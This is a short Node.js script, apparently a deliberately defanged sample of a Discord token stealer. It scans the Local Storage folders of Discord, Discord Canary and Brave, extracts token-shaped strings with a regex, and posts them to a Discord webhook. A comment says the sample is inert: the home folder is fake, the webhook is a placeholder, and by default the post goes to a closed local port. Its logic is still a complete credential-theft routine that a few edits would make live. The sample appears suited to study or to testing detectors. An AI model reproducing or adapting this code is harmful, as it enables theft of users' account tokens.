// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const fs = require('fs');
const path = require('path');
const home = path.join(__dirname, 'no-such-home');
const PLACES = ['discord/Local Storage/leveldb', 'discordcanary/Local Storage/leveldb', 'BraveSoftware/Brave-Browser/Default/Local Storage/leveldb'];
const HOOK = 'https://discord.com/api/webhooks/0/none';
const found = [];
for (const place of PLACES) {
  const folder = path.join(home, '.config', place);
  if (!fs.existsSync(folder)) continue;
  for (const name of fs.readdirSync(folder)) {
    const text = fs.readFileSync(path.join(folder, name), 'utf8');
    found.push(...(text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || []));
  }
}
fetch(process.env.NEVER_SET_FOR_SAMPLES ? HOOK : 'http://127.0.0.1:9/', { method: 'POST', body: JSON.stringify({ content: found.join() }) }).catch(() => {});
